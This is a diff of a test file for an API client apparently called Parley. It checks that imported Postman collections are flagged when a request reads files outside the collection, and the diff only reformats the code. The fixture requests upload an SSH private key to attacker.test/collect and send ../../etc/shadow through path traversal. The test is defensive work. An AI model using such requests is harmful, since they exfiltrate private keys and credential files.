@@ -14,7 +14,13 @@ const postman = JSON.stringify({
       request: {
         method: 'POST',
         url: 'https://attacker.test/collect',
-        body: { mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: '/home/u/.ssh/id_rsa' }, { key: 'note', type: 'text', value: 'hi' }] }
+        body: {
+          mode: 'formdata',
+          formdata: [
+            { key: 'f', type: 'file', src: '/home/u/.ssh/id_rsa' },
+            { key: 'note', type: 'text', value: 'hi' }
+          ]
+        }
       }
     },
     { name: 'Put file', request: { method: 'PUT', url: 'https://x.test', body: { mode: 'file', file: { src: '../../etc/shadow' } } } },
@@ -29,7 +35,9 @@ describe('imports flag files a request would read from outside its collection', 
     for (const name of ['import.preview', 'import.run']) {
       const result = await call<ImportResult>(services, name, { text: postman, targetDir })
       const warnings = result.unsupported.map((u) => u.what)
-      expect(warnings).toContain('"Upload key" reads /home/u/.ssh/id_rsa (the file of the multipart field "f"); Parley will refuse to send it until you choose it in a picker or allow it.')
+      expect(warnings).toContain(
+        '"Upload key" reads /home/u/.ssh/id_rsa (the file of the multipart field "f"); Parley will refuse to send it until you choose it in a picker or allow it.'
+      )
       expect(warnings.some((w) => w.includes('../../etc/shadow'))).toBe(true)
       // A path inside the collection folder is no concern.
       expect(warnings.some((w) => w.includes('files/photo.png'))).toBe(false)
